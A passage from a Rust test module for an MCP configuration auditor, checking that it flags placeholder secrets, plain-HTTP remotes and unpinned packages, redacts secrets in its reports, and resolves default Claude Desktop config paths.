                &["--header=X-Auth-Mode: on", "plain-value-abcdef"],
                clean,
            ),
        ]);
    }

    #[test]
    fn secrets_in_remote_entries() {
        let cases: &[(Value, &[&str])] = &[
            (
                json!({ "url": "https://x.example.com/mcp", "headers": { "Authorization": "Bearer abcdefgh12345678" } }),
                &["secret-in-headers"],
            ),
            (
                json!({ "url": "https://x.example.com/mcp", "headers": { "Authorization": "Bearer ${TOKEN}" } }),
                &[],
            ),
            (
                json!({ "url": "https://x.example.com/mcp?token=abcd1234efgh5678" }),
                &["secret-in-url"],
            ),
        ];
        for (entry, expected) in cases {
            assert_eq!(&rules_for(entry.clone()), expected, "{entry}");
        }
    }

    #[test]
    fn secrets_are_never_printed() {
        let secrets = [
            "ghp_EXAMPLEexampleEXAMPLEexampleEXAMPLE0",
            "abcd1234efgh5678",
            "p4ssw0rd-example",
            "zyxw9876vuts5432",
        ];
        let config = json!({ "mcpServers": {
            "a": {
                "command": "bash",
                "args": ["-c", "GITHUB_TOKEN=ghp_EXAMPLEexampleEXAMPLEexampleEXAMPLE0 exec server --token abcd1234efgh5678"],
                "env": { "PASSWORD": "zyxw9876vuts5432" },
            },
            "b": { "command": "/opt/s", "args": ["--token", "abcd1234efgh5678"] },
            "c": { "url": "http://user:p4ssw0rd-example@mcp.example.com/mcp" },
        }});
        let report = audit(&config, &never_writable).expect("object");
        let text = render_text(Path::new("c.json"), &report);
        let json = render_json(Path::new("c.json"), &report).to_string();
        for secret in secrets {
            assert!(!text.contains(secret), "{secret} in:\n{text}");
            assert!(!json.contains(secret), "{secret} in:\n{json}");
        }
        assert!(text.contains("ghp_…"), "{text}");
        assert!(text.contains("abcd…"), "{text}");
    }

    #[test]
    fn redaction_keeps_four_characters_of_long_secrets_only() {
        assert_eq!(redact("sk-ant-api03-abcdef"), "sk-a…");
        assert_eq!(redact("hunter2"), "…");
        assert_eq!(redact("ü-long-secret-value"), "ü-lo…");
    }

    #[test]
    fn plain_http_remotes() {
        let cases: &[(Value, &[&str])] = &[
            (
                json!({ "url": "http://mcp.example.com/mcp" }),
                &["insecure-remote"],
            ),
            (
                json!({ "type": "sse", "serverUrl": "http://10.0.0.5:8080/sse" }),
                &["insecure-remote"],
            ),
            (json!({ "url": "HTTP://Example.com" }), &["insecure-remote"]),
            (
                json!({ "url": "http://127.0.0.1.example.com/mcp" }),
                &["insecure-remote"],
            ),
            (json!({ "url": "https://mcp.example.com/mcp" }), &[]),
            (json!({ "url": "http://localhost:8765/mcp" }), &[]),
            (json!({ "url": "http://127.0.0.1:8765/mcp" }), &[]),
            (json!({ "url": "http://[::1]:8765/mcp" }), &[]),
            (json!({ "url": "http://app.localhost/mcp" }), &[]),
            (
                json!({ "command": "npx", "args": ["-y", "mcp-remote@0.1.29", "http://mcp.example.com/sse"] }),
                &["insecure-remote"],
            ),
            (
                json!({ "command": "npx", "args": ["-y", "mcp-remote@0.1.29", "http://localhost:8765/mcp"] }),
                &[],
            ),
        ];
        for (entry, expected) in cases {
            assert_eq!(&rules_for(entry.clone()), expected, "{entry}");
        }
    }

    #[test]
    fn high_stdio_findings_suggest_the_guarded_entry() {
        let findings = findings_for(json!({ "command": "bash", "args": ["-c", "exec server"] }));
        let suggestion = findings[0].suggestion.as_ref().expect("suggestion");
        assert_eq!(
            *suggestion,
            json!({ "command": "ffmcp", "args": ["guard", "--policy", "<policy.toml>", "--", "bash", "-c", "exec server"] })
        );
        // Remote entries cannot be wrapped; guarded entries already are.
        let remote = findings_for(json!({ "url": "http://mcp.example.com/mcp" }));
        assert!(remote[0].suggestion.is_none());
        let guarded = findings_for(json!({
            "command": "ffmcp",
            "args": ["guard", "--policy", "p.toml", "--", "bash", "-c", "exec server"],
        }));
        assert_eq!(
            guarded.iter().map(|f| f.rule).collect::<Vec<_>>(),
            ["inline-code"]
        );
        assert!(guarded[0].suggestion.is_none());
    }

    #[test]
    fn server_tables_of_every_client_shape() {
        let entry = json!({ "command": "npx", "args": ["pkg"] });
        for config in [
            json!({ "mcpServers": { "s": entry } }),
            json!({ "servers": { "s": entry } }),
            json!({ "mcp": { "servers": { "s": entry } } }),
            json!({ "mcp.servers": { "s": entry } }),
        ] {
            let report = audit(&config, &never_writable).expect("object");
            assert_eq!(report.servers.len(), 1, "{config}");
            assert_eq!(report.count(Severity::Medium), 1, "{config}");
        }
        let empty = audit(&json!({ "globalShortcut": "x" }), &never_writable).expect("object");
        assert!(empty.servers.is_empty());
        assert!(render_text(Path::new("c.json"), &empty).contains("no MCP servers found"));
        assert!(audit(&json!([1, 2]), &never_writable).is_err());
    }

    #[test]
    fn malformed_entries_are_low_findings() {
        assert_eq!(rules_for(json!("npx pkg")), ["invalid-entry"]);
        assert_eq!(rules_for(json!({ "env": {} })), ["invalid-entry"]);
    }

    #[test]
    fn jsonc_comments_and_trailing_commas_parse_and_errors_keep_positions() {
        let text = "{\n  // comment with \"quote\"\n  \"servers\": { /* x */ \"s\": {\"command\": \"a//b\",}, },\n}\n";
        let value = parse_config(text).expect("jsonc parses");
        assert_eq!(value["servers"]["s"]["command"], "a//b");
        let err =
            parse_config("{\n  // note\n  \"a\": 1\n  \"b\": 2\n}").expect_err("missing comma");
        assert_eq!((err.line(), err.column()), (4, 3));
        assert!(
            parse_config("\u{feff}{}").is_ok(),
            "a byte-order mark is allowed"
        );
    }

    #[test]
    fn text_report_groups_by_server_and_summarises() {
        let config = json!({ "mcpServers": {
            "clean": { "command": "/usr/bin/server" },
            "risky": { "command": "npx", "args": ["pkg"], "env": { "API_KEY": "abcd1234efgh5678" } },
        }});
        let report = audit(&config, &never_writable).expect("object");
        let text = render_text(Path::new("c.json"), &report);
        assert!(text.contains("clean: no findings"), "{text}");
        assert!(text.contains("[HIGH]   secret-in-env"), "{text}");
        assert!(text.contains("[MEDIUM] unpinned-package"), "{text}");
        assert!(
            text.trim_end().ends_with("1 high, 1 medium, 0 low"),
            "{text}"
        );
        let high = text.find("[HIGH]").expect("high");
        let medium = text.find("[MEDIUM]").expect("medium");
        assert!(high < medium, "most severe first");
        let json = render_json(Path::new("c.json"), &report);
        assert_eq!(json["servers"], 2);
        assert_eq!(json["summary"], json!({ "high": 1, "medium": 1, "low": 0 }));
    }

    #[test]
    fn default_config_locations() {
        let env = |pairs: &'static [(&'static str, &'static str)]| {
            move |name: &str| {
                pairs
                    .iter()
                    .find(|(k, _)| *k == name)
                    .map(|(_, v)| std::ffi::OsString::from(v))
            }
        };
        if cfg!(all(unix, not(target_os = "macos"))) {
            let path = default_config_path(env(&[("XDG_CONFIG_HOME", "/x"), ("HOME", "/h")]))
                .expect("path");
            assert_eq!(path, Path::new("/x/Claude/claude_desktop_config.json"));
            let path =
                default_config_path(env(&[("XDG_CONFIG_HOME", ""), ("HOME", "/h")])).expect("path");
            assert_eq!(
                path,
                Path::new("/h/.config/Claude/claude_desktop_config.json")
            );
            assert!(default_config_path(env(&[])).is_err());
        }
        if cfg!(target_os = "macos") {
            let path = default_config_path(env(&[("HOME", "/h")])).expect("path");
            assert_eq!(
                path,
                Path::new("/h/Library/Application Support/Claude/claude_desktop_config.json")
            );
        }
    }
}
